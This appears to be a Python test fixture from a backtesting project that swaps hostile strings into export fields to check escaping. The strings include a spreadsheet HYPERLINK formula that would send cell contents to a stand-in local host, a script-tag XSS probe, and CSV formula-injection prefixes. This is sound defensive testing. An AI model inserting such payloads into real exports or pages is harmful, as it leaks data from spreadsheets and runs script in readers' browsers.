"""Texts that mean something to the programs that read exports."""

from __future__ import annotations

from dataclasses import replace

import polars as pl

from backtest.results.result import StudyResult

FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")'
SIGNS = r"50% of \$5 & #1_a{b}~^ <script>alert(1)</script> | [x](http://y) `c` *d* -- ''"
FOREIGN = "Łódź, Göteborg, 中文 ÷ −3 √2 τ £€¥"


def hostile(result: StudyResult) -> StudyResult:
    """Return the result with titles, groups and sources that nobody should trust."""
    titles = pl.Series([FORMULA, SIGNS, FOREIGN, "+1", "-1", "@x", "\tx", "＝1+1"])
    count = result.headlines.height
    return replace(
        result,
        headlines=result.headlines.with_columns(
            title=pl.concat([titles] * (count // len(titles) + 1)).head(count)
        ),
        **{
            name: getattr(result, name).with_columns(
                pl.col("group")
                .str.replace("tag:", SIGNS, literal=True)
                .str.replace("role:", FOREIGN, literal=True)
            )
            for name in ("sample_tests", "sample_designs", "memberships")
        },
        claims=result.claims.with_columns(source=pl.lit(FORMULA)),
        excluded=result.excluded.with_columns(reason=pl.lit(FORMULA)),
    )
